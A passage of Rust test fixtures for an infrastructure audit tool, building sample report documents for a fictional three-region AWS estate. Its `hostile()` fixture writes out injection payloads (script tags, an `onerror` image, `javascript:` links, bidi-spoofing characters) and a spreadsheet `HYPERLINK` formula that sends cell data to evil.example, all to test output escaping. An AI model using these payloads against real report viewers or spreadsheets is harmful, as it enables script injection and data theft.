//! Documents for the tests of reports: what an estate of three regions looks like in each sort of answer.

mod recovery;

use std::collections::BTreeMap;

use serde_json::{Value, json};

use super::*;

pub use recovery::recovery;

const ACCOUNT: &str = "123456789012";
const NETWORK: &str = "s3://acme-tfstate/prod/network.tfstate";
const ORDERS: &str = "s3://acme-tfstate/prod/orders.tfstate";
const IDENTITY: &str = "s3://acme-tfstate/prod/identity.tfstate";
const READ_AT: &str = "2026-03-01T06:00:12Z";

/// Every sample with its name.
pub fn all() -> Vec<(&'static str, Document)> {
    vec![
        ("no-go", no_go()),
        ("go", go()),
        ("go-with-waivers", go_with_waivers()),
        ("undetermined", undetermined()),
        ("drift-only", drift_only()),
        ("drift-clean", drift_clean()),
        ("hostile", hostile()),
        ("recovery", recovery()),
    ]
}

/// Everything that a document can hold: NO-GO, each status, each class, errors, waivers, a plan and a route.
pub fn no_go() -> Document {
    let components = vec![
        blind(
            "container",
            "Container Orchestration",
            15.0,
            "critical",
            "0 of 3 needed checks were evaluated",
        ),
        rated("network", "Network Security", 12.0, "critical", (59.0, 59.0), 100.0, 59.0, 9),
        rated("storage", "Storage & Backup", 10.0, "high", (66.18, 74.52), 91.3, 100.0, 21),
        rated("monitoring", "Monitoring & Observability", 15.0, "critical", (83.33, 83.33), 100.0, 100.0, 8),
        blind("cicd", "CI/CD Pipeline", 12.0, "high", "coverage 0 % is under the 60 % that it takes"),
        rated("iac", "Infrastructure as Code", 10.0, "high", (59.0, 59.0), 96.77, 59.0, 12),
        rated("multienv", "Multi-Environment", 8.0, "medium", (88.24, 88.24), 100.0, 100.0, 4),
        rated("dr", "Disaster Recovery", 8.0, "critical", (49.0, 81.6), 64.0, 49.0, 13),
        rated("autoscaling", "Auto-scaling", 5.0, "high", (92.5, 92.5), 100.0, 100.0, 4),
        rated("cloud", "Cloud Integration", 5.0, "high", (76.92, 96.15), 80.77, 100.0, 10),
    ];
    let criteria = vec![
        criterion("security", "Security", 85.0, "Network Security", (59.0, 59.0), (62.4, 70.13)),
        criterion("reliability", "Reliability", 80.0, "Disaster Recovery", (49.0, 81.6), (66.67, 84.2)),
        criterion("scalability", "Scalability", 75.0, "Auto-scaling", (92.5, 92.5), (92.5, 92.5)),
        criterion("automation", "Automation", 70.0, "CI/CD Pipeline", (0.0, 100.0), (71.88, 74.0)),
    ];
    let mut score = score(components, criteria, 79.0);
    score.without_waivers = Some(round(score.evidenced - 1.6));
    score.notes = vec![
        "The published weights call Disaster Recovery critical and give it 8 %, the same as the only medium component; \
         the profile `impact` derives the weights from the words."
            .into(),
        "Not assessed: Container Orchestration and CI/CD Pipeline count as 0 in the evidenced score and as 100 in the \
         possible one."
            .into(),
    ];
    Document {
        schema: SCHEMA.into(),
        run: run("audit"),
        scope: scope(),
        verdict: Some(Verdict {
            decision: Decision::NoGo,
            reasons: vec![
                "Security fails: 59.00 at best, and it has to lie above 85.".into(),
                "Overall fails: it is capped at 79.00 while critical failures stand, and it has to lie above 80.".into(),
                "NET-03 fails on sg-0a1b2c3d4e5f60718 and is critical.".into(),
                "IAC-22 fails on the estate and is critical.".into(),
                "Container Orchestration and CI/CD Pipeline are not assessed.".into(),
            ],
            waivers_used: 1,
        }),
        score: Some(score),
        findings: findings(),
        drift: Some(drift()),
        plan: plan(),
        route_to_go: vec![
            step("NET-03 on module.orders.aws_security_group.database in s3://acme-tfstate/prod/orders.tfstate", "finding", &["NET-03"], "critical", 4.92, 1),
            step(
                "module.orders in s3://acme-tfstate/prod/orders.tfstate",
                "module",
                &["IAC-22", "STO-19"],
                "critical",
                4.1,
                3,
            ),
            step(
                "read s3:GetBucketReplication (denied)",
                "evidence",
                &["DR-12"],
                "high",
                2.21,
                1,
            ),
        ],
        waivers: waivers(),
        recovery: None,
        compliance: Vec::new(),
        collection: collection(),
    }
}

/// GO: every criterion passes, nothing is unknown and nothing drifts.
pub fn go() -> Document {
    let components = vec![
        rated("container", "Container Orchestration", 15.0, "critical", (95.0, 95.0), 100.0, 100.0, 11),
        rated("network", "Network Security", 12.0, "critical", (94.0, 94.0), 100.0, 100.0, 9),
        rated("storage", "Storage & Backup", 10.0, "high", (90.0, 90.0), 100.0, 100.0, 21),
        rated("monitoring", "Monitoring & Observability", 15.0, "critical", (97.0, 97.0), 100.0, 100.0, 8),
        rated("cicd", "CI/CD Pipeline", 12.0, "high", (92.0, 92.0), 100.0, 100.0, 5),
        rated("iac", "Infrastructure as Code", 10.0, "high", (95.0, 95.0), 100.0, 100.0, 12),
        rated("multienv", "Multi-Environment", 8.0, "medium", (88.0, 88.0), 100.0, 100.0, 4),
        rated("dr", "Disaster Recovery", 8.0, "critical", (89.0, 89.0), 100.0, 100.0, 13),
        rated("autoscaling", "Auto-scaling", 5.0, "high", (93.0, 93.0), 100.0, 100.0, 4),
        rated("cloud", "Cloud Integration", 5.0, "high", (91.0, 91.0), 100.0, 100.0, 10),
    ];
    let criteria = vec![
        criterion("security", "Security", 85.0, "Network Security", (94.0, 94.0), (93.2, 93.2)),
        criterion("reliability", "Reliability", 80.0, "Disaster Recovery", (89.0, 89.0), (91.4, 91.4)),
        criterion("scalability", "Scalability", 75.0, "Auto-scaling", (93.0, 93.0), (93.0, 93.0)),
        criterion("automation", "Automation", 70.0, "CI/CD Pipeline", (92.0, 92.0), (94.6, 94.6)),
    ];
    let mut scope = scope();
    scope.accounts[0].outcome = Outcome::Read;
    scope.accounts[0].reason = None;
    scope.states.retain(|state| state.outcome == Outcome::Read);
    scope.checks_left_out = Vec::new();
    for region in &mut scope.regions {
        (region.outcome, region.unread) = (Outcome::Read, 0);
    }
    for service in &mut scope.services {
        service.outcome = Outcome::Read;
    }
    let mut findings: Vec<Finding> = findings()
        .into_iter()
        .filter(|finding| matches!(finding.status, Status::Pass | Status::NotApplicable))
        .collect();
    findings.push(low_tls());
    findings.sort_by(|a, b| (&a.check, &a.resource.id).cmp(&(&b.check, &b.resource.id)));
    Document {
        schema: SCHEMA.into(),
        run: run("audit"),
        scope,
        verdict: Some(Verdict {
            decision: Decision::Go,
            reasons: vec!["Every criterion passes, nothing blocks, and no waiver was needed.".into()],
            waivers_used: 0,
        }),
        score: Some(score(components, criteria, 100.0)),
        findings,
        drift: Some(clean_drift()),
        plan: vec![step(
            "NET-15 on module.orders.aws_lb_listener.https in s3://acme-tfstate/prod/orders.tfstate",
            "finding",
            &["NET-15"],
            "low",
            0.34,
            1,
        )],
        route_to_go: Vec::new(),
        waivers: Vec::new(),
        recovery: None,
        compliance: Vec::new(),
        collection: Collection { errors: Vec::new(), ..collection() },
    }
}

/// The same estate, but one critical failure is lifted by a waiver.
pub fn go_with_waivers() -> Document {
    let mut document = go();
    let waived = findings().into_iter().filter(|finding| finding.status == Status::Waived);
    document.findings.extend(waived);
    document.findings.sort_by(|a, b| (&a.check, &a.resource.id).cmp(&(&b.check, &b.resource.id)));
    document.waivers = waivers();
    document.verdict = Some(Verdict {
        decision: Decision::GoWithWaivers,
        reasons: vec![
            "Every criterion passes, and nothing blocks any more.".into(),
            "1 waiver was needed: DR-10 on orders-prod until 2026-05-01.".into(),
        ],
        waivers_used: 1,
    });
    if let Some(score) = &mut document.score {
        score.without_waivers = Some(79.0);
    }
    document
}

/// UNDETERMINED: a service was denied everywhere, and the recovery region did not answer.
pub fn undetermined() -> Document {
    let mut document = go();
    let dead = |service: &str, operation: &str| {
        error(
            service,
            operation,
            "eu-west-1",
            "unreachable",
            "DispatchFailure",
            "no connection to the endpoint after 4 tries in 60 s",
            &["DR-12", "NET-03", "STO-18"],
            &["aws_db_instance", "aws_security_group"],
        )
    };
    let denied = |region: &str| {
        error(
            "kms",
            "ListKeys",
            region,
            "denied",
            "AccessDeniedException",
            "the caller may not list the keys of this region",
            &["CLD-10", "CLD-11", "DR-30"],
            &["aws_kms_alias", "aws_kms_key"],
        )
    };
    let region = &mut document.scope.regions[2];
    (region.outcome, region.resources, region.unread) = (Outcome::Unreadable, 0, 2);
    for region in &mut document.scope.regions[..2] {
        (region.outcome, region.unread) = (Outcome::Partial, 1);
    }
    for service in &mut document.scope.services {
        match service.name.as_str() {
            "kms" => (service.outcome, service.resources) = (Outcome::Unreadable, 0),
            "ec2" | "rds" => service.outcome = Outcome::Partial,
            _ => {}
        }
    }
    document.collection.errors = vec![
        dead("ec2", "DescribeSecurityGroups"),
        denied("us-east-1"),
        denied("us-west-2"),
        dead("rds", "DescribeDBInstances"),
    ];
    let everything = |region: &str, kind: &str| ResourceRef {
        address: None,
        state: None,
        name: None,
        ..resource(kind, "*", region, None)
    };
    let unknown = |check: &str, severity: &str, at: ResourceRef, reason: &str, message: &str| Finding {
        reason: Some(reason.into()),
        remediation: Some(permission(reason)),
        ..finding(check, severity, Status::Unknown, at, message)
    };
    document
        .findings
        .retain(|finding| finding.resource.region != "eu-west-1" && !finding.check.starts_with("CLD-1"));
    document.findings.extend([
        unknown(
            "CLD-10",
            "medium",
            everything("us-east-1", "aws_kms_key"),
            "denied",
            "kms:ListKeys: denied (the caller may not list the keys of this region)",
        ),
        unknown(
            "CLD-11",
            "critical",
            everything("us-west-2", "aws_kms_key"),
            "denied",
            "kms:ListKeys: denied (the caller may not list the keys of this region)",
        ),
        unknown(
            "NET-03",
            "critical",
            everything("eu-west-1", "aws_security_group"),
            "unreachable",
            "ec2:DescribeSecurityGroups: unreachable (no connection to the endpoint)",
        ),
        unknown(
            "STO-18",
            "high",
            everything("eu-west-1", "aws_db_instance"),
            "unreachable",
            "rds:DescribeDBInstances: unreachable (no connection to the endpoint)",
        ),
    ]);
    document.findings.sort_by(|a, b| (&a.check, &a.resource.id).cmp(&(&b.check, &b.resource.id)));
    if let Some(drift) = &mut document.drift {
        drift.items = vec![
            unread(
                "module.orders.aws_db_instance.replica",
                "aws_db_instance",
                "orders-prod-replica",
                "eu-west-1",
            ),
            unread(
                "module.orders.aws_kms_key.main",
                "aws_kms_key",
                "1234abcd-12ab-34cd-56ef-1234567890ab",
                "us-west-2",
            ),
        ];
        drift.summary.in_sync -= 2;
        drift.summary.unknown = 2;
        drift.summary.coverage = Coverage { low: 98.54, high: 100.0 };
    }
    document.verdict = Some(Verdict {
        decision: Decision::Undetermined,
        reasons: vec![
            "Security is undetermined: between 59.00 and 95.10, and it has to lie above 85.".into(),
            "Reliability is undetermined: between 59.00 and 92.00, and it has to lie above 80.".into(),
            "NET-03 could not be judged in eu-west-1 and is critical.".into(),
        ],
        waivers_used: 0,
    });
    let mut components = document.score.take().map(|score| score.components).unwrap_or_default();
    for (at, worst, best, coverage, cap) in
        [(1, 59.0, 95.1, 71.4, 59.0), (7, 59.0, 92.0, 66.0, 59.0), (9, 59.0, 97.0, 61.0, 59.0)]
    {
        let component = &mut components[at];
        (component.evidenced, component.possible) = (Some(worst), Some(best));
        (component.coverage, component.cap) = (coverage, cap);
        component.points_lost = round(component.weight * (100.0 - worst) / 100.0);
    }
    let criteria = vec![
        criterion("security", "Security", 85.0, "Network Security", (59.0, 95.1), (81.2, 96.0)),
        criterion("reliability", "Reliability", 80.0, "Disaster Recovery", (59.0, 92.0), (77.0, 94.4)),
        criterion("scalability", "Scalability", 75.0, "Auto-scaling", (93.0, 93.0), (93.0, 93.0)),
        criterion("automation", "Automation", 70.0, "CI/CD Pipeline", (92.0, 92.0), (94.6, 94.6)),
    ];
    document.score = Some(score(components, criteria, 79.0));
    document.plan = vec![step(
        "read kms:ListKeys (denied)",
        "evidence",
        &["CLD-10", "CLD-11", "DR-30"],
        "critical",
        6.2,
        1,
    )];
    document.route_to_go = Vec::new();
    document
}

/// What `stateward drift` writes: no verdict, no score, no findings.
pub fn drift_only() -> Document {
    Document {
        run: run("drift"),
        verdict: None,
        score: None,
        findings: Vec::new(),
        plan: Vec::new(),
        route_to_go: Vec::new(),
        waivers: Vec::new(),
        ..no_go()
    }
}

/// The same where nothing differs and everything was read.
pub fn drift_clean() -> Document {
    Document { run: run("drift"), verdict: None, score: None, findings: Vec::new(), plan: Vec::new(), ..go() }
}

/// NO-GO with the evidence for two frameworks: each result of a control, with a title and without.
pub fn with_evidence() -> Document {
    use EvidenceResult::{Fail, NotApplicable, NotMade, Pass, Unknown};
    let counts = |pass, fail, unknown, not_applicable| FindingCounts {
        pass,
        fail,
        unknown,
        not_applicable,
        ..FindingCounts::default()
    };
    let check = |id: &str, severity: &str, result, findings| CheckEvidence {
        check: id.into(),
        title: catalogue(id).0.into(),
        severity: severity.into(),
        result,
        findings,
    };
    let network = || check("NET-03", "critical", Fail, FindingCounts { partial: 1, ..counts(4, 2, 1, 0) });
    let public = || check("STO-19", "critical", Fail, FindingCounts { waived: 1, ..counts(1, 0, 0, 0) });
    let copies = || check("DR-12", "high", Unknown, counts(3, 0, 1, 0));
    let drift = || check("IAC-22", "critical", NotMade, FindingCounts::default());
    let control = |id: &str, result, coverage, checks| ControlEvidence {
        id: id.into(),
        title: None,
        result,
        coverage,
        checks,
    };
    let titled = |title: &str, of: ControlEvidence| ControlEvidence { title: Some(title.into()), ..of };
    let passing = |of: CheckEvidence| CheckEvidence { result: Pass, findings: counts(5, 0, 0, 2), ..of };
    let bare =
        |of: CheckEvidence| CheckEvidence { result: NotApplicable, findings: counts(0, 0, 0, 0), ..of };
    let covered = EvidenceResult::NotCovered;
    let framework = |key: &str, note: &str, controls: Vec<ControlEvidence>| {
        let mut counts = ControlCounts::default();
        controls.iter().for_each(|control| counts.add(control.result));
        let title = crate::compliance::title(key).into();
        FrameworkEvidence { key: key.into(), title, note: note.into(), counts, controls }
    };
    let cis = vec![
        control("1.1", covered, None, Vec::new()),
        control("2.2.3", Fail, Some(92.86), vec![network(), public()]),
        control("2.3.1", Pass, Some(100.0), vec![passing(public())]),
        control("3.7", NotApplicable, Some(100.0), vec![bare(network())]),
        control("5.6", covered, None, Vec::new()),
    ];
    let hipaa = vec![
        titled(
            "Risk management",
            control("164.308(a)(1)(ii)(B)", Unknown, Some(37.5), vec![copies(), drift()]),
        ),
        titled("Evaluation", control("164.308(a)(8)", NotMade, Some(0.0), vec![drift()])),
        titled("Workstation use", control("164.310(b)", covered, None, Vec::new())),
    ];
    let compliance = vec![
        framework("cis-aws-4.0.1", "Listed are all recommendations, by number.", cis),
        framework("hipaa", "Listed are the standards of 45 CFR 164.308 to 164.316.", hipaa),
    ];
    Document { compliance, ..no_go() }
}

/// Drift held against an earlier result, with everything that time and acceptance can say.
pub fn over_time() -> Document {
    let mut document = drift_only();
    let Some(drift) = &mut document.drift else { return document };
    let standing = |state, first_seen: &str, days: u64, last: Option<&str>| Standing {
        state,
        first_seen: first_seen.into(),
        age_s: days * 86_400,
        last_resolved: last.map(str::to_owned),
    };
    let now = "2026-03-01T06:00:00Z";
    let old = standing(StandingState::Continuing, "2026-02-20T06:00:00Z", 9, None);
    for item in drift.items.iter_mut().filter(|item| item.class != "unknown") {
        item.standing = Some(old.clone());
        for change in &mut item.changes {
            change.fingerprint = Some(format!("{}:{}", item.fingerprint, change.path));
            change.standing = Some(old.clone());
        }
    }
    let fresh = standing(StandingState::New, now, 0, None);
    drift.items[0].standing = Some(Standing { state: StandingState::New, ..old.clone() });
    drift.items[0].changes[1].standing = Some(fresh);
    drift.items[1].standing =
        Some(standing(StandingState::Returned, "2026-01-05T06:00:00Z", 55, Some("2026-02-01T06:00:00Z")));
    drift.items[2].changes[0].accepted = true;
    drift.items[2].accepted = Some(Accepted {
        owner: "ops@acme.example".into(),
        reason: "rotated by hand until the pipeline does it".into(),
        expires: "2026-04-15".into(),
    });
    drift.summary.accepted = 1;
    if let Some(item) = drift.items.iter_mut().find(|item| item.class == "unmanaged" && item.owner.is_none())
    {
        item.creator = Some("ann@acme.example".into());
        item.created_at = Some("2026-02-19T15:04:05Z".into());
    }
    let past = |class: &str, address: Option<&str>, kind: &str, id: &str, path: Option<&str>| Past {
        class: class.into(),
        address: address.map(str::to_owned),
        kind: kind.into(),
        id: id.into(),
        path: path.map(str::to_owned),
        fingerprint: format!("{class}:{id}"),
        label: None,
        owner: None,
        state: address.map(|_| ORDERS.into()),
        lineage: address.map(|_| "2f1c".into()),
        account: ACCOUNT.into(),
        region: "us-west-2".into(),
        first_seen: "2026-02-20T06:00:00Z".into(),
        last_seen: "2026-02-28T06:00:00Z".into(),
        resolved_at: None,
        why: String::new(),
    };
    drift.since = Some(Since {
        run: "5f0c".into(),
        as_of: "2026-02-28T06:00:00Z".into(),
        new: 1,
        continuing: 11,
        returned: 1,
        resolved: 2,
        unseen: 1,
        note: None,
    });
    drift.resolved = vec![
        Past {
            resolved_at: Some(now.into()),
            why: "in sync now".into(),
            ..past(
                "changed",
                Some("module.orders.aws_db_instance.main"),
                "aws_db_instance",
                "orders-prod",
                Some("multi_az"),
            )
        },
        Past {
            resolved_at: Some(now.into()),
            why: "does not exist any more".into(),
            ..past("unmanaged", None, "aws_instance", "i-0f00", None)
        },
    ];
    drift.unseen = vec![Past {
        label: Some("security-loosening".into()),
        why: "it could not be read: rds:DescribeDBInstances: unreachable (no connection to the endpoint)"
            .into(),
        ..past(
            "changed",
            Some("module.orders.aws_db_instance.replica"),
            "aws_db_instance",
            "orders-prod-replica",
            Some("publicly_accessible"),
        )
    }];
    drift.perpetual = vec![Perpetual {
        rule: "N30".into(),
        address: "module.orders.aws_instance.app[\"a\"]".into(),
        path: "user_data".into(),
        state: ORDERS.into(),
        serial_before: 41,
        serial: 44,
    }];
    let usage = |subject: &str, outcome: &str, covers: usize, note: Option<&str>| AcceptanceUse {
        subject: subject.into(),
        origin: "accept[0] of accepted.toml".into(),
        owner: "ops@acme.example".into(),
        reason: "rotated by hand until the pipeline does it".into(),
        expires: "2026-04-15".into(),
        outcome: outcome.into(),
        covers,
        note: note.map(str::to_owned),
    };
    drift.acceptances = vec![
        usage("changed module.orders.aws_lambda_function.mailer *", "used", 1, None),
        usage("missing module.old.*", "idle", 0, None),
        usage("changed aws_eip.*", "expired", 2, None),
        usage(
            "module.orders.* *",
            "idle",
            0,
            Some("what loosens security is accepted by its fingerprint only"),
        ),
    ];
    let group = |by: &str, name: &str, objects: usize| UnmanagedGroup {
        by: by.into(),
        name: name.into(),
        objects,
        items: Vec::new(),
    };
    drift.unmanaged_groups = vec![
        group("creator", "ann@acme.example", 1),
        group("day", "2026-02-19", 1),
        group("type", "aws_instance", 1),
        group("tag", "Team=web", 1),
        group("managed_elsewhere", "CDK, CloudFormation stack shop", 12),
    ];
    document
}

/// Text that would break out of any format that does not escape it.
pub fn hostile() -> Document {
    let mut document = no_go();
    let nasty = "</details><script>alert(1)</script> \"q\" 'a' | ``` `tick` ${x} {{ 7 * 7 }} {% raw %} a\nb\r\nc\td &amp; \u{202e}gnp.exe\u{2066}\u{200f} \u{1b}[31mred\u{7}";
    let long = format!("arn:aws:s3:::{}", "very-long-bucket-name-".repeat(30));
    let formula = "=HYPERLINK(\"http://evil.example/?\"&A1,\"click\")";
    document.run.id = nasty.into();
    document.scope.accounts[0].alias = Some(nasty.into());
    document.scope.regions[0].name = "us-west-2<b>".into();
    document.scope.states[0].uri = formula.into();
    document.scope.states[0].reason = Some(nasty.into());
    if let Some(verdict) = &mut document.verdict {
        verdict.reasons.push(nasty.into());
    }
    if let Some(score) = &mut document.score {
        score.notes.push(nasty.into());
        score.components[0].why_not = Some(nasty.into());
        score.components[1].title = nasty.into();
        score.criteria[0].title = "<img src=x onerror=alert(1)>".into();
    }
    for (at, text) in [nasty, formula, long.as_str(), "+1+1", "-2+3", "@SUM(A1)"].into_iter().enumerate() {
        let finding = &mut document.findings[at];
        finding.resource.id = text.into();
        finding.resource.name = Some(text.into());
        finding.resource.address = Some(format!("aws_s3_bucket.this[\"{text}\"]"));
        finding.message = text.into();
        finding.title = text.into();
        finding.status = Status::Fail;
        finding.remediation = Some(format!(
            "**Console**: <script>alert(1)</script> [link](javascript:alert(1)) ![x](http://evil.example/x.png)\n\n{nasty}\n\n```hcl\n</code></pre><script>alert(1)</script>\n```\n\n```\nnever closed"
        ));
        finding.compliance = BTreeMap::from([(nasty.to_owned(), vec![nasty.to_owned()])]);
    }
    if let Some(drift) = &mut document.drift {
        drift.items[0].id = nasty.into();
        drift.items[0].address = Some(nasty.into());
        drift.items[0].changes[0] = change(nasty, json!(nasty), json!({ nasty: [nasty] }), nasty);
        drift.items[1].import_block = Some(format!("import {{\n  id = \"{nasty}\"\n}}\n```\n"));
        drift.items[1].id = long;
        drift.suppressed.push(Suppressed { rule: nasty.into(), address: nasty.into(), path: nasty.into() });
        drift.unread_states.push(nasty.into());
        drift.idle_ignore_rules.push(nasty.into());
    }
    document.plan[0].candidate = nasty.into();
    document.waivers[0].reason = nasty.into();
    document.collection.errors[0].message = nasty.into();
    document.collection.errors[0].code = formula.into();
    document
}

/// `count` failing findings and as many drift items, for the size of reports.
pub fn large(count: usize) -> Document {
    let mut document = no_go();
    let (failing, changed) = (document.findings[1].clone(), drift().items[0].clone());
    document.findings.extend((0..count).map(|at| {
        let mut finding = failing.clone();
        finding.fingerprint = format!("{at:032x}");
        finding.resource.id = format!("sg-{at:017x}");
        finding
    }));
    if let Some(drift) = &mut document.drift {
        drift.items.extend((0..count).map(|at| DriftItem { id: format!("db-{at:05}"), ..changed.clone() }));
    }
    document
}

fn run(command: &str) -> Run {
    Run {
        id: "0f8c2f5e-9a43-4a6e-8f6f-3d1c7b2e5a90".into(),
        started_at: "2026-03-01T06:00:00Z".into(),
        finished_at: "2026-03-01T06:00:41Z".into(),
        version: "0.1.0".into(),
        as_of: "2026-03-01T06:00:00Z".into(),
        catalogue_hash: "9f2b7c41d0e85a6f3b1c9d7e2a4f60718293a4b5c6d7e8f90a1b2c3d4e5f6071".into(),
        profile_hash: "51c0ffee8d3a7b9e2f4160718293a4b5c6d7e8f90a1b2c3d4e5f60718293a4b5".into(),
        profile: vec!["default".into(), "./team.toml".into()],
        command: command.into(),
    }
}

fn scope() -> Scope {
    let region = |name: &str, role: &str, outcome, unread, resources| Region {
        name: name.into(),
        role: role.into(),
        outcome,
        unread,
        resources,
    };
    let state = |uri: &str, serial, instances| State {
        uri: uri.into(),
        serial,
        lineage: "3f2a9c1e-7b6d-4d57-9a0b-5c8e1f2d3a4b".into(),
        terraform_version: "1.11.4".into(),
        instances,
        outcome: Outcome::Read,
        reason: None,
    };
    let service = |name: &str, outcome, resources| Service { name: name.into(), outcome, resources };
    Scope {
        accounts: vec![Account {
            id: ACCOUNT.into(),
            alias: Some("acme-production".into()),
            outcome: Outcome::Partial,
            reason: Some("5 operations were not read".into()),
        }],
        regions: vec![
            region("us-west-2", "primary", Outcome::Read, 0, 141),
            region("us-east-1", "secondary", Outcome::Read, 0, 58),
            region("eu-west-1", "dr", Outcome::Partial, 2, 23),
        ],
        states: vec![
            State {
                uri: IDENTITY.into(),
                serial: 0,
                lineage: String::new(),
                terraform_version: String::new(),
                instances: 0,
                outcome: Outcome::Unreadable,
                reason: Some("s3:GetObject: denied".into()),
            },
            state(NETWORK, 418, 61),
            state(ORDERS, 1207, 76),
        ],
        services: vec![
            service("backup", Outcome::Read, 4),
            service("dynamodb", Outcome::Read, 9),
            service("ec2", Outcome::Read, 118),
            service("iam", Outcome::Read, 31),
            service("kms", Outcome::Partial, 8),
            service("rds", Outcome::Partial, 6),
            service("s3", Outcome::Partial, 46),
        ],
        proposal: None,
        checks_left_out: vec!["CLD-24".into(), "ENV-12".into()],
    }
}

fn round(value: f64) -> f64 {
    (value * 100.0).round() / 100.0
}

#[allow(clippy::too_many_arguments)]
fn rated(
    key: &str,
    title: &str,
    weight: f64,
    impact: &str,
    (evidenced, possible): (f64, f64),
    coverage: f64,
    cap: f64,
    checks: usize,
) -> Component {
    Component {
        key: key.into(),
        title: title.into(),
        weight,
        impact: impact.into(),
        assessed: true,
        why_not: None,
        evidenced: Some(evidenced),
        possible: Some(possible),
        coverage,
        cap,
        points_lost: round(weight * (100.0 - evidenced) / 100.0),
        checks,
    }
}

fn blind(key: &str, title: &str, weight: f64, impact: &str, why_not: &str) -> Component {
    Component {
        assessed: false,
        why_not: Some(why_not.into()),
        evidenced: None,
        possible: None,
        points_lost: weight,
        ..rated(key, title, weight, impact, (0.0, 0.0), 0.0, 100.0, 0)
    }
}

fn criterion(
    key: &str,
    title: &str,
    threshold: f64,
    component: &str,
    mapped: (f64, f64),
    breadth: (f64, f64),
) -> Criterion {
    let (evidenced, possible) = (mapped.0.min(breadth.0), mapped.1.min(breadth.1));
    Criterion {
        key: key.into(),
        title: title.into(),
        threshold,
        mapped_to: Some(component.into()),
        mapped: Some(Interval { evidenced: mapped.0, possible: mapped.1 }),
        breadth: Some(Interval { evidenced: breadth.0, possible: breadth.1 }),
        evidenced,
        possible,
        outcome: gate(threshold, evidenced, possible),
    }
}

fn gate(threshold: f64, evidenced: f64, possible: f64) -> Gate {
    match () {
        () if evidenced > threshold => Gate::Pass,
        () if possible <= threshold => Gate::Fail,
        () => Gate::Undetermined,
    }
}

/// The score over these components, with the overall criterion, under an overall cap in the worst case.
fn score(components: Vec<Component>, mut criteria: Vec<Criterion>, cap: f64) -> Score {
    let mean = |of: fn(&Component) -> Option<f64>, blind: f64| {
        round(components.iter().map(|c| c.weight * of(c).unwrap_or(blind)).sum::<f64>() / 100.0)
    };
    let assessed: f64 = components.iter().filter(|c| c.assessed).map(|c| c.weight).sum();
    let evidenced = mean(|c| c.evidenced, 0.0).min(cap);
    let possible =
        mean(|c| c.possible, 100.0).min(if cap < 100.0 && components[0].assessed { 100.0 } else { cap });
    criteria.push(Criterion {
        mapped_to: None,
        mapped: Some(Interval { evidenced, possible }),
        breadth: None,
        evidenced,
        possible,
        outcome: gate(80.0, evidenced, possible),
        ..criterion("overall", "Overall", 80.0, "", (0.0, 0.0), (0.0, 0.0))
    });
    Score {
        model: "stateward.score/1".into(),
        evidenced,
        possible,
        assessed_only: Some(round(mean(|c| c.evidenced, 0.0) * 100.0 / assessed)),
        coverage: mean(|c| Some(c.coverage), 0.0),
        band: match evidenced {
            v if v >= 90.0 => "strong",
            v if v >= 80.0 => "sound",
            v if v >= 70.0 => "fair",
            v if v >= 50.0 => "weak",
            _ => "poor",
        }
        .into(),
        without_waivers: None,
        components,
        criteria,
        notes: Vec::new(),
        terms: None,
    }
}

fn resource(kind: &str, id: &str, region: &str, address: Option<&str>) -> ResourceRef {
    ResourceRef {
        kind: kind.into(),
        id: id.into(),
        arn: None,
        name: None,
        account: ACCOUNT.into(),
        region: region.into(),
        address: address.map(str::to_owned),
        state: address.map(|address| if address.contains("network") { NETWORK } else { ORDERS }.into()),
        definition: None,
    }
}

type Controls = &'static [(&'static str, &'static [&'static str])];

/// Title, component, category and compliance of the checks that the samples use.
fn catalogue(check: &str) -> (&'static str, &'static str, &'static str, Controls) {
    match check {
        "NET-01" => (
            "No administration port open to the internet",
            "network",
            "exposure",
            &[
                ("aws-fsbp", &["EC2.13", "EC2.14"]),
                ("cis-aws-3.0", &["5.2", "5.3"]),
                ("soc2", &["CC6.6", "CC7.2"]),
            ],
        ),
        "NET-03" => (
            "No data-store port open to the internet",
            "network",
            "exposure",
            &[("aws-fsbp", &["EC2.19"]), ("soc2", &["CC6.6"])],
        ),
        "NET-10" => (
            "Instance metadata needs a session token",
            "network",
            "exposure",
            &[("aws-fsbp", &["EC2.8"]), ("cis-aws-3.0", &["5.6"]), ("soc2", &["CC7.2"])],
        ),
        "NET-15" => {
            ("TLS policy on load balancers is current", "network", "encryption", &[("aws-fsbp", &["ELB.17"])])
        }
        "STO-07" => (
            "Versioning on data buckets",
            "storage",
            "backup",
            &[("aws-fsbp", &["S3.14"]), ("soc2", &["CC7.4", "A1.1", "C1.2", "PI1.5"])],
        ),
        "STO-18" => (
            "RDS storage encrypted",
            "storage",
            "encryption",
            &[("aws-fsbp", &["RDS.3", "RDS.27"]), ("cis-aws-3.0", &["2.3.1"]), ("soc2", &["PI1.5"])],
        ),
        "STO-19" => (
            "No database has a public endpoint",
            "storage",
            "exposure",
            &[("aws-fsbp", &["RDS.2"]), ("cis-aws-3.0", &["2.3.3"]), ("soc2", &["CC6.2"])],
        ),
        "STO-22" => (
            "Automated database backups kept long enough",
            "storage",
            "backup",
            &[("aws-fsbp", &["RDS.11"]), ("soc2", &["CC7.4", "A1.1"])],
        ),
        "STO-26" => (
            "DynamoDB point-in-time recovery on",
            "storage",
            "backup",
            &[("aws-fsbp", &["DynamoDB.2"]), ("soc2", &["CC7.4", "A1.1"])],
        ),
        "STO-29" => {
            ("ElastiCache encrypted at rest", "storage", "encryption", &[("aws-fsbp", &["ElastiCache.4"])])
        }
        "DR-01" => ("RDS instances are Multi-AZ", "dr", "multi-az", &[("aws-fsbp", &["RDS.5"])]),
        "DR-10" => ("Each relational database has a recovery copy elsewhere", "dr", "dr", &[]),
        "DR-12" => ("Data buckets replicate to another region", "dr", "dr", &[("aws-fsbp", &["S3.7"])]),
        "MON-01" => (
            "Multi-region CloudTrail records management events",
            "monitoring",
            "observability",
            &[("aws-fsbp", &["CloudTrail.1"]), ("cis-aws-3.0", &["3.1"]), ("soc2", &["CC2.1", "CC7.2"])],
        ),
        "IAC-19" => ("Managed share of the estate", "iac", "drift", &[]),
        "IAC-22" => ("No security-relevant drift", "iac", "drift", &[]),
        "CLD-10" => (
            "Customer keys rotate",
            "cloud",
            "encryption",
            &[("aws-fsbp", &["KMS.4"]), ("cis-aws-3.0", &["3.6"]), ("soc2", &["PI1.5"])],
        ),
        "CLD-11" => ("No key in use is about to vanish", "cloud", "dr", &[("aws-fsbp", &["KMS.3"])]),
        _ => ("Root has no access key", "cloud", "exposure", &[("cis-aws-3.0", &["1.4"])]),
    }
}

fn finding(check: &str, severity: &str, status: Status, resource: ResourceRef, message: &str) -> Finding {
    let (title, component, category, compliance) = catalogue(check);
